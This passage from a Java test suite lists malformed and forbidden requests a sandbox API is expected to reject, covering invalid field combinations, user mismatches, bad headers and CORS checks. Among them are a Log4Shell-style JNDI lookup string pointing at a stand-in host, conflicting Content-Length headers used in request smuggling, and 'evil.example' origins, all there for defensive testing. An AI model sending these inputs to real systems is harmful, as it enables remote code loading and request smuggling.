                    post(JOBS).json("{\"prompt\":{\"input\":\"a\",\"resume\":\"" + session + "\"}}"),
                    400,
                    INVALID,
                    "prompt.resume");
        }
    }

    private void combinations() {
        group = "what does not go together";
        bad(post(JOBS).json("{}"), 400, INVALID, "command");
        bad(post(JOBS).json("{\"command\":\"true\",\"prompt\":{\"input\":\"a\"}}"), 400, INVALID, "command");
        bad(post(JOBS).json("{\"prompt\":{\"input\":\"a\"},\"cwd\":\"/\"}"), 400, INVALID, "cwd");
        bad(post(JOBS).json("{\"prompt\":{\"input\":\"a\"},\"stdin\":\"open\"}"), 400, INVALID, "stdin");
        bad(post(JOBS).json("{\"command\":\"cat\",\"stdin\":\"text\"}"), 400, INVALID, "stdin");
        bad(post(JOBS).json("{\"prompt\":{}}"), 400, INVALID, "prompt.input");
        bad(post(EXEC).json("{}"), 400, INVALID, "command");
        bad(post(JOBS + "/" + JOB + "/input").json("{}"), 400, INVALID, "data");
        bad(post(JOBS + "/" + JOB + "/input").json("{\"data\":\"\"}"), 400, INVALID, "data");
        bad(post(JOBS + "/" + JOB + "/input").json("{\"data\":\"late\"}"), 409, "job_finished");
        bad(post(JOBS + "/" + JOB + "/cancel"), 409, "job_finished");
        bad(
                post(SANDBOXES).json("{\"network\":{\"blockAll\":true,\"allow\":[\"10.0.0.0/8\"]}}"),
                400,
                INVALID,
                "network.allow");
        bad(
                post(SANDBOXES)
                        .json("{\"env\":{"
                                + IntStream.range(0, 64)
                                        .mapToObj(i -> "\"A" + i + "\":\"" + "é".repeat(4_096) + "\"")
                                        .collect(Collectors.joining(","))
                                + "}}"),
                400,
                INVALID,
                "env");
        bad(post("/api/knowledge/process").json("{\"input\":\"a\"}"), 400, INVALID, "sandboxId");
        bad(
                post("/api/knowledge/process").json("{\"input\":\"a\",\"sandboxId\":\"x\",\"userId\":\"bob\"}"),
                403,
                "user_mismatch");
        bad(post("/api/sandbox/create").json("{\"userId\":\"bob\"}"), 403, "user_mismatch");
        bad(post("/api/sandbox/create").json("{\"userId\":\"\"}"), 403, "user_mismatch");
        bad(post(SANDBOXES + "/" + SANDBOX + "/archive"), 409, "sandbox_not_ready");
    }

    private void noRequestsAtAll() {
        group = "no request at all";
        for (String path : new String[] {
            "/%",
            "/%zz",
            "/api/v1/sandboxes/%zz",
            "/api/v1/sandboxes?limit=%zz",
            "/api/v1/sandboxes/${jndi:ldap://x.example/a}",
            "/%%32"
        }) {
            refusedByTheServer(get(path));
        }
        bare(get("/" + "a".repeat(5_000)), 414);
        bare(get(SANDBOXES).header("X-Long: " + "a".repeat(17_000)), 431);
        refusedByTheServer(post(SANDBOXES).header("Idempotency-Key: \u007f").json("{}"));
        refusedByTheServer(get(SANDBOXES).header("X-Control: a\u0001b"));
        refusedByTheServer(get(SANDBOXES).header("no colon"));
        refusedByTheServer(get(SANDBOXES).header("Bad Name: x"));
        refusedByTheServer(post(SANDBOXES).header("Content-Length: -1"));
        refusedByTheServer(post(SANDBOXES)
                .header("Content-Length: 2")
                .header("Content-Length: 3")
                .body("{}"));
        refusedByTheServer(post(SANDBOXES).header("Content-Length: 1x").body("{}"));
        refusedByTheServer(get(SANDBOXES).header("Host:"));
        refusedByTheServer(get(SANDBOXES).header("Host: a/b"));
        refusedByTheServer(call("GET", SANDBOXES + " x"));
        for (String origin :
                new String[] {"https://evil.example", "null", "http://localhost.evil.example", "file://"}) {
            bare(get(SANDBOXES).header("Origin: " + origin), 403);
        }
        bare(
                call("OPTIONS", SANDBOXES)
                        .header("Origin: https://evil.example")
                        .header("Access-Control-Request-Method: DELETE"),
                403);
    }

    private void bad(Request request, int status, String code) {
        bad(request, status, code, null);
    }

    private void bad(Request request, int status, String code, @Nullable String field) {
        corpus.add(new BadRequest(group, request, status, code, field));
    }

    private void refusedByTheServer(Request request) {
        bare(request, 400);
    }

    private void bare(Request request, int status) {
        corpus.add(new BadRequest(group, request, status, null, null));
    }

    private static byte[] around(String before, String hex, String after) {
        var bytes = new ByteArrayOutputStream();
        bytes.writeBytes(before.getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(HexFormat.of().parseHex(hex));
        bytes.writeBytes(after.getBytes(StandardCharsets.UTF_8));
        return bytes.toByteArray();
    }

    private static String entries(int count, String name) {
        return IntStream.range(0, count)
                .mapToObj(i -> "\"" + name + i + "\":\"\"")
                .collect(Collectors.joining(","));
    }
}
